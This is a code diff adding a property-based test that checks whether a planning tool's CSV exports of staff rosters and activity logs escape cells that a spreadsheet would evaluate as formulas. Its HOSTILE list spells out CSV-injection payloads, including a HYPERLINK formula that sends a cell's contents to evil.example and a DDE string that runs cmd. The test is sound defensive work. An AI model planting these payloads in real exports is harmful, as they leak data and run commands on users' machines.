@@ -285,3 +285,41 @@ def test_optimised_disney_plan_prints(disney):
     assert all(r["time"].endswith("+08:00") for r in rows)
     page = to_html(lists, header(exercise=True))
     assert page.count('<section class="sheet">') == len(lists) == page.count('<div class="exercise">')
+
+
+#: What a spreadsheet would evaluate: a cell opening with one of these, at once or after blanks (the oracle is
+#: written apart from `command.ics`, from OWASP's CSV-injection list plus the full-width forms and line breaks).
+_EVALUATED = set("=+-@\uff1d\uff0b\uff0d\uff20")
+
+
+def _evaluated(cell: str) -> bool:
+    return cell[:1] in {"\t", "\r", "\n"} or cell.lstrip(" \t\r\n\v\f\u00a0\u3000")[:1] in _EVALUATED
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1",
+           "\r=1", " =1", "\u3000\uff1d1", "\uff20x", "\n+1", "\t", "-"]  # fmt: skip
+
+
+@settings(max_examples=80, deadline=None)
+@given(text=st.one_of(st.sampled_from(HOSTILE), st.text(max_size=30)))
+def test_no_csv_cell_can_start_a_formula(text):
+    """Whatever text an incident name, a person's name or phone, a note, an actor or a log entry holds, no cell of
+    either CSV would be evaluated by a spreadsheet, and each comes back whole after its one leading quote (issue 21,
+    CSV formula injection)."""
+    scenario = load_scenario("disney_mass_testing")
+    plan = Plan.build(PlanMeta(scenario=scenario.name),
+                      [AssignStaff(at_s=60, pool="pudong", to="site_exit_plaza_1", count=1, note=text)])  # fmt: skip
+    roster = [RosterEntry(team="pudong", name=text, phone=text, role="leader")]
+    head = header(name=text)
+    lists = to_csv(assignment_lists(plan, scenario, roster=roster), head)
+    log = activity_log_csv([ActivityEntry(at=datetime(2021, 10, 31, 10, 20, tzinfo=UTC), actor=text, kind=text,
+                                          text=text)], head)  # fmt: skip
+    for body in (lists, log):
+        for row in csv.reader(io.StringIO(body, newline="")):
+            assert not any(_evaluated(cell) for cell in row), row
+    (row,) = csv.DictReader(io.StringIO(lists, newline=""))
+    back = {k: row[k][1:] if _evaluated(v) else row[k] for k, v in
+            (("incident_name", text), ("leader_name", text), ("leader_phone", text))}  # fmt: skip
+    assert back == {"incident_name": text, "leader_name": text, "leader_phone": text}
+    (entry,) = csv.DictReader(io.StringIO(log, newline=""))
+    assert entry["activity"] == ("'" + text if _evaluated(text) else text)
